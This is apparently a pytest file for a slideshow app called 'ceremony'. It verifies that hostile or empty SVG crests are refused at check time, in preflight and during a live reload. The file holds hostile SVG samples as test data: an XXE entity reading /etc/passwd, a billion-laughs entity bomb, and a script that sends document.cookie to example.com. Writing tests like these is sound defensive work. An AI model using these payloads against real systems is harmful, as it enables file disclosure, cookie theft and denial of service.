"""Every image proven before the doors open: a crest replaced by a hostile or empty SVG, through each way an
operator meets it — ``ceremony check``, ``check --preflight``, the presenter's checklist, and a save during
the show (the reload is refused and the stage keeps the last good picture).

The show is the real slides.yaml with a copy of its assets, Asker's crest replaced by each case.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from PySide6.QtGui import QImage

from ceremony.check import run_check
from ceremony.ui.main import Show

from .conftest import REPO, FakeClock, open_show, settle, stage_image

pytestmark = pytest.mark.usefixtures("english")  # the messages as the tests spell them

CREST = "assets/crests/asker.svg"
REFERENCE = next(
    (n, line.index(CREST) + 1)
    for n, line in enumerate((REPO / "slides.yaml").read_text(encoding="utf-8").splitlines(), 1)
    if line.strip() == f"crest: {CREST}"
)
"""Where slides.yaml names Asker's crest: line and column of the value, found by reading the file."""
FIRST_SLIDE = "intro-over-15000"
"""The first slide that draws Asker's crest: at 459×551 pixels on a 1920×1080 stage."""
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
OPEN = f'<svg {NS} viewBox="0 0 400 480" width="400" height="480">'
SHIELD = '  <path d="M72,44 H328 V222 C328,318 272,372 200,412 C128,372 72,318 72,222 Z" fill="#1f5e3a"/>\n'
OUTSIDE = "SVG refers to a file or address outside it ('{}'); embed it or remove the reference"


@dataclass(frozen=True)
class Case:
    svg: str
    message: str
    at: tuple[int, int] | None = None
    """Line and column in the SVG, for what the loader refuses; None for what only drawing it shows."""


LOL = "\n".join([" <!ENTITY lol0 'lol'>"] + [f" <!ENTITY lol{i} '{f'&lol{i - 1};' * 10}'>" for i in range(1, 10)])
CASES = {
    "entity": Case(
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY name "Asker">\n]>\n{OPEN}\n{SHIELD}  <text>&name;</text>\n</svg>\n',
        "SVG declares entities; remove the DOCTYPE",
        (3, 3),
    ),
    "billion laughs": Case(
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n{LOL}\n]>\n{OPEN}\n{SHIELD}  <text>&lol9;</text>\n</svg>\n',
        "SVG declares entities; remove the DOCTYPE",
        (3, 2),
    ),
    "external entity": Case(
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n{OPEN}\n'
        f"{SHIELD}  <text>&secret;</text>\n</svg>\n",
        "SVG declares an entity that reads 'file:///etc/passwd'; remove the DOCTYPE",
        (3, 3),
    ),
    "external image": Case(
        f'{OPEN}\n{SHIELD}  <image xlink:href="file:///srv/crests/asker.png" width="400" height="480"/>\n</svg>\n',
        OUTSIDE.format("file:///srv/crests/asker.png"),
        (3, 3),
    ),
    "network image": Case(
        f'{OPEN}\n{SHIELD}  <image href="https://example.com/asker.png" width="400" height="480"/>\n</svg>\n',
        OUTSIDE.format("https://example.com/asker.png"),
        (3, 3),
    ),
    "script": Case(
        f"{OPEN}\n{SHIELD}  <script>fetch('https://example.com/?' + document.cookie)</script>\n</svg>\n",
        "SVG contains a <script> element; remove it",
        (3, 3),
    ),
    "empty drawing": Case(
        f"{OPEN}\n  <title>Asker</title>\n</svg>\n",
        f"'{CREST}' draws nothing visible on slide '{FIRST_SLIDE}': it is transparent at 459×551 pixels",
    ),
    "flat colour": Case(
        f'{OPEN}\n  <rect width="400" height="480" fill="#ffffff"/>\n</svg>\n',
        f"'{CREST}' is one flat colour (#ffffff) on slide '{FIRST_SLIDE}', where a crest is expected",
    ),
    "huge canvas": Case(
        f'<svg {NS} viewBox="0 0 400000000 480000000" width="400000000" height="480000000">\n'
        '  <circle cx="200" cy="240" r="150" fill="#1f5e3a"/>\n</svg>\n',
        f"'{CREST}' draws nothing visible on slide '{FIRST_SLIDE}': it is transparent at 459×551 pixels",
    ),
}
LOADER = [name for name, case in CASES.items() if case.at is not None]
DRAWN = [name for name, case in CASES.items() if case.at is None]


@pytest.fixture(autouse=True)
def _app(qapp: object) -> None:
    """The checks start a QGuiApplication if none runs; in tests, pytest-qt's QApplication is that one."""


def show_folder(folder: Path, crest: str | None = None) -> Path:
    """slides.yaml and a copy of its assets in folder, Asker's crest replaced by crest when given."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copytree(REPO / "assets", folder / "assets")
    shutil.copy(REPO / "slides.yaml", folder / "slides.yaml")
    if crest is not None:
        (folder / CREST).write_text(crest, encoding="utf-8")
    return folder / "slides.yaml"


def expected(case: Case, script: Path) -> str:
    """The diagnostic as ceremony check prints it."""
    if case.at is not None:
        line, col = case.at
        used = f"the crest of nominee 'asker', {script}:{REFERENCE[0]}:{REFERENCE[1]}"
        return f"{script.parent / CREST}:{line}:{col}: error: {case.message} ({used})"
    return f"{script}:{REFERENCE[0]}:{REFERENCE[1]}: error: {case.message}"


# ---------------------------------------------------------------- ceremony check and check --preflight


@pytest.mark.parametrize("name", LOADER)
@pytest.mark.parametrize("preflight", [False, True], ids=["check", "preflight"])
def test_check_refuses_an_unsafe_svg(
    name: str, preflight: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = CASES[name]
    script = show_folder(tmp_path / "show", case.svg)
    assert run_check(script, preflight=preflight) == 2
    assert capsys.readouterr().err.splitlines() == [expected(case, script), f"{script}: 1 error"]


@pytest.mark.parametrize("name", DRAWN)
def test_preflight_fails_an_image_that_shows_nothing(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = CASES[name]
    script = show_folder(tmp_path / "show", case.svg)
    assert run_check(script) == 0  # sound XML: only drawing it shows what is wrong
    capsys.readouterr()
    assert run_check(script, preflight=True) == 2
    out = capsys.readouterr()
    assert expected(case, script) in out.err.splitlines()
    assert out.err.splitlines()[-1] == f"{script}: 1 pre-show check failed"
    assert f"preflight: [FAIL] Images (assets): 1 of the images fail: {case.message}" in out.out.splitlines()


def test_preflight_passes_a_huge_canvas_that_draws(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    huge = (
        CASES["huge canvas"]
        .svg.replace('r="150"', 'r="150000000"')
        .replace('cx="200" cy="240"', 'cx="200000000" cy="240000000"')
    )
    script = show_folder(tmp_path / "show", huge)
    assert run_check(script, preflight=True) == 0
    assert "preflight: [ok  ] Images (assets): all 8 images decode and show on stage" in capsys.readouterr().out


def _peak_mb(args: list[str], cwd: Path) -> tuple[int, float, str]:
    """Run ceremony in a fresh process; its exit code, its own peak memory (MB) and its stderr."""
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    child = subprocess.Popen(
        [sys.executable, "-m", "ceremony", *args], cwd=cwd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    assert child.stderr is not None
    with child.stderr:
        err = child.stderr.read().decode()
    _pid, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return child.returncode, usage.ru_maxrss / 1024, err


def test_a_huge_canvas_is_proven_in_bounded_memory(tmp_path: Path) -> None:
    """A 400 000 000 × 480 000 000 canvas is drawn at its place on stage, never at its declared size (that
    would be 768 petabytes): the check's peak memory is the good show's, give or take."""
    good = show_folder(tmp_path / "good")
    huge = show_folder(tmp_path / "huge", CASES["huge canvas"].svg)
    code, baseline, _ = _peak_mb(["check", "--preflight", "slides.yaml"], good.parent)
    assert code == 0
    code, peak, err = _peak_mb(["check", "--preflight", "slides.yaml"], huge.parent)
    assert code == 2
    assert f"slides.yaml:{REFERENCE[0]}:{REFERENCE[1]}: error: {CASES['huge canvas'].message}" in err
    assert peak - baseline < 100, f"{peak:.0f} MB against {baseline:.0f} MB for the good show"


# ---------------------------------------------------------------- the checklist and a save during the show


def _images(show: Show) -> tuple[str, str]:
    show.presenter.refresh_checklist()
    item = next(i for i in show.presenter.checklist.items if i.id == "assets")
    return item.status, item.detail


def _script_line(show: Show) -> tuple[str, str]:
    item = next(i for i in show.presenter.checklist.items if i.id == "script")
    return item.status, item.detail


def _at(show: Show, clock: FakeClock, cue: str) -> QImage:
    """The stage at a cue, every picture drawn afresh (the decoded images and layers forgotten first)."""
    show.controller.run("goto", cue)
    settle(clock)
    renderer = show.controller.renderer
    renderer.clear_caches()
    renderer.store.clear()
    stage_image(show)  # asks for the pictures: the store decodes them
    renderer.store.wait()
    return stage_image(show)


@pytest.mark.parametrize("name", DRAWN)
def test_the_checklist_is_red_for_an_image_that_shows_nothing(
    name: str, qtbot, clock: FakeClock, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    case = CASES[name]
    show = open_show(qtbot, clock, show_folder(tmp_path / "show", case.svg))
    qtbot.waitUntil(lambda: bool(show.presenter.checklist.items), timeout=20000)
    assert _images(show) == ("red", f"1 of the images fail: {case.message}")
    assert show.hook.count == 0


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_or_empty_crest_saved_during_the_show_is_refused(
    name: str, qtbot, clock: FakeClock, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    case = CASES[name]
    script = show_folder(tmp_path / "show")
    show = open_show(qtbot, clock, script)
    qtbot.waitUntil(lambda: bool(show.presenter.checklist.items), timeout=20000)
    assert _images(show)[0] == "green"
    before = {cue: _at(show, clock, cue) for cue in ("nominee-asker", "lineup-over-15000")}
    (script.parent / CREST).write_text(case.svg, encoding="utf-8")

    assert not show.reloader.reload_now()
    diagnostic = expected(case, script)
    assert show.reloader.problems == [diagnostic]
    assert diagnostic in show.presenter.banner.text().splitlines()
    assert _script_line(show) == ("red", f"the last reload failed (1): {diagnostic}")
    changed = "changed on disk since the show loaded it; the stage keeps the picture it loaded"
    if case.at is not None:  # the file and the place in it, then the reason and where the script uses it
        used = f"the crest of nominee 'asker', {script}:{REFERENCE[0]}:{REFERENCE[1]}"
        shown = f"{CREST}:{case.at[0]}:{case.at[1]}: {case.message} ({used})"
    else:
        shown = case.message
    assert _images(show) == ("red", f"1 of the images fail: {shown} — {changed}")
    # The last good picture, even drawn afresh at a size the stage had not drawn it at before the save.
    assert {cue: _at(show, clock, cue) for cue in before} == before
    assert _at(show, clock, "lineup-over-15000") == before["lineup-over-15000"]
    assert show.hook.count == 0

    shutil.copy(REPO / CREST, script.parent / CREST)  # fixed: the next save goes through
    assert show.reloader.reload_now()
    assert _script_line(show)[0] == "green"
    assert _images(show)[0] == "green"
